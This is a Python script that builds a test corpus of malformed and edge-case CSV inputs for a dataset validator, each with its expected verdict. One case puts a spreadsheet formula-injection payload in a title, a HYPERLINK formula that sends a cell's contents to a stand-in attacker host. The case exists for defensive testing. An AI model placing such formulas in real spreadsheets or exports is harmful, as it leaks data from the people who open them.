"""Write the bad-input corpus: one small dataset directory per defect, with its verdict.

    .venv/bin/python tests/corpus/generate.py

Each directory holds the CSVs of tests/fixtures/minimal with one change and an
``expected.json``: ``"verdict": "error"`` with the file, line, column and message the
tool must report, or ``"verdict": "legitimate"`` for input that must build and render.
``datapackage.json`` is not copied: tests add the project's own, so the corpus follows
the schema. Re-run after changing a case; review the diff before committing.
"""

from __future__ import annotations

import dataclasses
import json
import shutil
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
TESTS = HERE.parent
sys.path[:0] = [str(TESTS), str(TESTS.parent / "src")]

from analysis.dataset import Problem  # noqa: E402
from conftest import MINIMAL_DIR, set_cell  # noqa: E402
from test_validation import CASES, edit  # noqa: E402


def add_row(file: str, row: str):
    def apply(d: Path) -> None:
        with (d / file).open("a", encoding="utf-8", newline="") as handle:
            handle.write(row + "\n")

    return apply


def revises_cycle_of_three(d: Path) -> None:
    add_row(
        "events.csv",
        "deadline-alpha-3,deadline,alpha,,2026-03,,phase-alpha,2026-01-15,"
        "deadline-alpha-2,planned,reported,Third,الثالث,,,,,src-a",
    )(d)
    set_cell(d / "events.csv", "deadline-alpha", "revises", "deadline-alpha-3")


def mixed_line_endings(d: Path) -> None:
    lines = (d / "events.csv").read_bytes().split(b"\n")
    endings = [b"\r\n", b"\n", b"\r\n", b"\n", b"\n"]
    out = b"".join(line + endings[i % len(endings)] for i, line in enumerate(lines[:-1]))
    (d / "events.csv").write_bytes(out)


def excel_bom(d: Path) -> None:
    for name in ("events.csv", "sites.csv"):
        path = d / name
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n"))


def one_megabyte_line(d: Path) -> None:
    set_cell(d / "events.csv", "statement-1", "summary_en", "long " * 210_000)


def nfd_id(d: Path) -> None:
    # "é" decomposed (e + U+0301) next to the composed one: visually the same id.
    set_cell(d / "events.csv", "statement-1", "id", "cafe\u0301")


EXTRA: dict[str, tuple] = {
    "revises cycle of three": (
        revises_cycle_of_three,
        Problem(
            "events.csv",
            3,
            "revises",
            "deadline-alpha-3",
            "revision cycle: deadline-alpha -> deadline-alpha-3 -> deadline-alpha-2 -> "
            "deadline-alpha; a deadline chain must run from the original to the latest",
            9,
        ),
    ),
    "one megabyte line": (
        one_megabyte_line,
        Problem(
            "events.csv",
            5,
            "summary_en",
            "long " * 210_000,
            "is 1,050,000 characters long, over the maximum 3,000",
            14,
        ),
    ),
    "ids differing by unicode normalisation": (
        nfd_id,
        Problem(
            "events.csv",
            5,
            "id",
            "cafe\u0301",
            "is not a valid id: use lower-case letters, digits and '-' only",
            1,
        ),
    ),
    "statement announced before it was made": (
        edit("events.csv", "statement-1", "announced", "2025-08-01"),
        Problem(
            "events.csv",
            5,
            "announced",
            "2025-08-01",
            "is before the start 2025-08-18: a statement is public only once it has "
            "happened (a date still to come is a deadline or a planned phase)",
            8,
        ),
    ),
    "revision announced before its original": (
        edit("events.csv", "deadline-alpha-2", "announced", "2024-01-01"),
        Problem(
            "events.csv",
            4,
            "announced",
            "2024-01-01",
            "is before the deadline it revises (deadline-alpha) was announced "
            "(2024-09-27): a revision comes after the original",
            8,
        ),
    ),
    "zero-width title": (
        edit("events.csv", "statement-1", "title_en", "\u200b\u200b"),
        Problem(
            "events.csv",
            5,
            "title_en",
            "\u200b\u200b",
            "is required but blank: it holds only spaces or invisible characters",
            12,
        ),
    ),
    "whitespace-only arabic title": (
        edit("events.csv", "phase-alpha", "title_ar", " \u00a0 "),
        Problem(
            "events.csv",
            2,
            "title_ar",
            " \u00a0 ",
            "is required but blank: it holds only spaces or invisible characters",
            13,
        ),
    ),
    # Legitimate input: must build and render correctly.
    "excel utf-8 with bom": (excel_bom, None),
    "mixed line endings": (mixed_line_endings, None),
    "spreadsheet formula in a title": (
        edit(
            "events.csv",
            "statement-1",
            "title_en",
            '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        ),
        None,
    ),
    "right-to-left mark in an arabic title": (
        edit("events.csv", "statement-1", "title_ar", "تصريح \u200fالمتحدث\u200f"),
        None,
    ),
    "quoted comma and newline in a summary": (
        edit("events.csv", "statement-1", "summary_en", 'He said, "we leave"\nin September.'),
        None,
    ),
    "arabic-indic digits in a date": (
        edit("events.csv", "deadline-alpha", "start", "٢٠٢٥-٠٩"),
        None,
    ),
}


def main() -> None:
    for old in HERE.iterdir():
        if old.is_dir():
            shutil.rmtree(old)
    cases = {**CASES, **EXTRA}
    for name, (breaker, problem) in sorted(cases.items()):
        target = HERE / name.replace(" ", "-").replace("/", "-").lower()
        shutil.copytree(MINIMAL_DIR, target)
        breaker(target)
        if problem is None:
            expected = {"verdict": "legitimate", "case": name}
        else:
            fields = dataclasses.asdict(problem)
            if fields["value"] and len(fields["value"]) > 200:
                fields["value"] = fields["value"][:200]
                fields["value_truncated"] = True
            expected = {"verdict": "error", "case": name, **fields}
        (target / "expected.json").write_text(
            json.dumps(expected, ensure_ascii=False, indent=2) + "\n", encoding="utf-8"
        )
    print(f"wrote {len(cases)} cases into {HERE}")


if __name__ == "__main__":
    main()
